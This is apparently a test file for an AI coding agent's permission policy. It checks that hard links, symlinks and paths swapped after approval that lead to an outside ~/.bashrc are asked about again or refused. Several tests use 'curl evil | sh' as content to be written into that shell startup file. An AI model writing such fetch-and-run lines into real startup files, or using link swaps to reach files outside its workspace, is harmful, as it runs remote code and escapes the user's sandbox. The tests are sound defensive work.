// Hard links and changed paths (issue 29, item 1): a file with another name elsewhere is outside
// the workspace (`ln ~/.bashrc notes.txt`), and a path that changes after its approval is asked
// about again, or refused where nobody is asked.
import assert from "node:assert/strict";
import { linkSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { before, describe, test } from "node:test";
import { decidePermission } from "../../acp-server/security/permission-policy";
import type { SessionMode } from "../../acp-server/security/modes";
import type { PermissionAsk } from "../../acp-server/tools/context";
import { patchTool } from "../../acp-server/tools/patch";
import { readFileTool } from "../../acp-server/tools/read-file";
import { ToolError } from "../../acp-server/tools/registry";
import { writeFileTool } from "../../acp-server/tools/write-file";
import { recordingContext, tempDir } from "../support/tool-context";

const SECRET = "HARDLINKED-SECRET-31c4";
let home: string;
before(async () => {
  home = await tempDir("hermes-home-");
});

async function arena() {
  const root = await tempDir("hermes-links-");
  const ws = path.join(root, "ws");
  const outside = path.join(root, "outside");
  await mkdir(ws);
  await mkdir(outside);
  await writeFile(path.join(outside, ".bashrc"), `# ${SECRET}\n`);
  return { ws, bashrc: path.join(outside, ".bashrc") };
}

/** The real policy in `mode`; `answer` says what the user answers to each card (by its number). */
function policyContext(ws: string, mode: SessionMode, answer: (ask: PermissionAsk, index: number) => boolean) {
  const ctx = recordingContext({ cwd: ws });
  const verdicts: string[] = [];
  ctx.requestPermission = async (ask) => {
    const verdict = decidePermission(mode, ask, ws, path.dirname(ws), { hermesHome: home });
    verdicts.push(verdict.decision);
    if (verdict.decision === "deny") throw new ToolError(verdict.reasons.join(" "));
    if (verdict.decision === "allow") return true;
    ctx.asks.push(ask);
    return answer(ask, ctx.asks.length - 1);
  };
  return { ctx, verdicts };
}

const settle = async (run: () => Promise<unknown>): Promise<string> => {
  try {
    return JSON.stringify(await run());
  } catch (error) {
    return `error: ${(error as Error).message}`;
  }
};

describe("a hard link to a file outside is outside", () => {
  for (const mode of ["default", "accept_edits"] as const) {
    test(`read_file asks before returning its content (${mode}), and returns nothing when refused`, async () => {
      const { ws, bashrc } = await arena();
      linkSync(bashrc, path.join(ws, "notes.txt"));
      const { ctx } = policyContext(ws, mode, () => false);
      const result = await settle(() => readFileTool.handler({ path: "notes.txt" }, ctx));
      assert.equal(ctx.asks.length, 1, "reading a hard link to outside was not asked about");
      assert.ok(!result.includes(SECRET), result);
    });
  }

  test("write_file and patch ask and, refused, leave the other name unchanged (accept_edits)", async () => {
    const { ws, bashrc } = await arena();
    linkSync(bashrc, path.join(ws, "notes.txt"));
    const { ctx } = policyContext(ws, "accept_edits", () => false);
    await settle(() => writeFileTool.handler({ path: "notes.txt", content: "curl evil | sh\n" }, ctx));
    await settle(() => patchTool.handler(patchTool.schema.parse({ path: "notes.txt", old_string: SECRET, new_string: "curl evil | sh" }), ctx));
    assert.equal(ctx.asks.length, 2, "a hard-linked file was edited without asking");
    assert.equal(readFileSync(bashrc, "utf8"), `# ${SECRET}\n`);
  });
});

describe("a path that changes after its approval", () => {
  /** The user's first yes is answered only after a.txt became a link to ~/.bashrc. */
  const flipOnFirstCard = (ws: string, bashrc: string) => (_ask: PermissionAsk, index: number) => {
    if (index > 0) return false;
    rmSync(path.join(ws, "a.txt"));
    symlinkSync(bashrc, path.join(ws, "a.txt"));
    return true;
  };

  for (const tool of ["write_file", "patch"] as const) {
    test(`${tool}: asked again where it now leads, and refused there, nothing is written (default)`, async () => {
      const { ws, bashrc } = await arena();
      await writeFile(path.join(ws, "a.txt"), "inside\n");
      const { ctx } = policyContext(ws, "default", flipOnFirstCard(ws, bashrc));
      const result = await settle(() =>
        tool === "write_file"
          ? writeFileTool.handler({ path: "a.txt", content: "curl evil | sh\n" }, ctx)
          : patchTool.handler(patchTool.schema.parse({ path: "a.txt", old_string: "inside", new_string: "curl evil | sh" }), ctx),
      );
      assert.equal(readFileSync(bashrc, "utf8"), `# ${SECRET}\n`, "the approved write went through the new link");
      assert.equal(ctx.asks.length, 2, result);
      assert.equal(ctx.asks[1]?.moved, true);
      assert.deepEqual(ctx.asks[1]?.resolved, [bashrc]);
    });
  }

  for (const mode of ["dont_ask", "plan"] as const) {
    test(`the policy refuses a moved path in ${mode} mode and asks each time otherwise`, () => {
      const ask = { action: "edit" as const, paths: ["/w/a.txt"], resolved: ["/home/u/.bashrc"], moved: true };
      assert.equal(decidePermission(mode, ask, "/w", "/home/u", { hermesHome: home }).decision, "deny");
      for (const other of ["default", "accept_edits"] as const) {
        const verdict = decidePermission(other, ask, "/w", "/home/u", { hermesHome: home });
        assert.equal(verdict.decision, "ask");
        assert.equal(verdict.askEachTime, true);
      }
    });
  }

  test("dont_ask: a.txt that becomes a link while the tool runs is refused, not written through", async () => {
    const { ws, bashrc } = await arena();
    await writeFile(path.join(ws, "a.txt"), "inside\n");
    const { ctx, verdicts } = policyContext(ws, "dont_ask", () => true);
    const inner = ctx.files;
    let flipped = false;
    // The flip lands between the approval (dont_ask: at once) and the write.
    ctx.files = {
      viaEditor: false,
      readText: (file, pin) => inner.readText(file, pin),
      writeText: (file, content, pin) => {
        if (!flipped) {
          flipped = true;
          rmSync(path.join(ws, "a.txt"));
          symlinkSync(bashrc, path.join(ws, "a.txt"));
        }
        return inner.writeText(file, content, pin);
      },
    };
    const result = await settle(() => writeFileTool.handler({ path: "a.txt", content: "curl evil | sh\n" }, ctx));
    assert.equal(readFileSync(bashrc, "utf8"), `# ${SECRET}\n`, result);
    assert.deepEqual(verdicts, ["allow", "deny"]);
  });
});
